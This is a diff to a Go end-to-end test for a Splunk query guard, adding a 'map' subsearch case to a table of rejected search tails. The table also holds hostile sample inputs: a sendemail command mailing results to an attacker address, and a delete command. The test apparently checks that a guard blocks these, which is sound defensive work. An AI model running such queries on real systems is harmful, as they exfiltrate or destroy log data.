@@ -49,6 +49,7 @@ func TestEndToEndSPLGuard(t *testing.T) {
 		"d_email.toml":      {`| sendemail to="attacker@example.com"`, "sendemail"},
 		"e_collect.toml":    {"| collect index=main", "collect"},
 		"f_apostrophe.toml": {"| search user=don't | delete", "delete"},
+		"g_map.toml":        {`| map search="search index=aws user=$user$"`, "map"},
 	}
 	for name, b := range bad {
 		os.WriteFile(filepath.Join(dets, name), []byte(writingDetection(strings.TrimSuffix(name[2:], ".toml"), b.tail)), 0o644)
